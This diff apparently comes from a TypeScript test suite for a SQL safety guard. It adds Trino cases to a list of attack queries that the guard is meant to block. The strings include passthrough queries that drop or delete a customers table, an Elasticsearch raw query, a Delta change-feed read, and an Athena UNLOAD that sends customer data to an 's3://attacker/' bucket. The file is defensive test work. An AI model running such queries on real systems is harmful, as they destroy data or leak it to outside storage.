@@ -56,5 +56,8 @@ export const classTwoAttacks: AttackCase[] = [
   ...acrossDialects(2, 'stage-read', ['snowflake'], 'SELECT $1 FROM @my_stage/data.csv'),
   ...acrossDialects(2, 'presigned-url', ['snowflake'], "SELECT GET_PRESIGNED_URL(@stage, 'x.csv')"),
   ...acrossDialects(2, 'unload', ['athena'], "UNLOAD (SELECT * FROM customers) TO 's3://attacker/' WITH (format = 'TEXTFILE')"),
-  ...acrossDialects(2, 'query-passthrough', ['athena'], "SELECT * FROM TABLE(system.query(query => 'DROP TABLE customers'))"),
+  ...acrossDialects(2, 'query-passthrough', ['athena', 'trino'], "SELECT * FROM TABLE(system.query(query => 'DROP TABLE customers'))"),
+  ...acrossDialects(2, 'catalog-query-passthrough', ['trino'], "SELECT * FROM TABLE(postgresql.system.query(query => 'DELETE FROM customers'))"),
+  ...acrossDialects(2, 'raw-query-passthrough', ['trino'], "SELECT * FROM TABLE(elasticsearch.system.raw_query(schema => 'x', index => 'y', query => '{}'))"),
+  ...acrossDialects(2, 'table-changes', ['trino'], "SELECT * FROM TABLE(delta.system.table_changes('default', 'customers', 0))"),
 ];
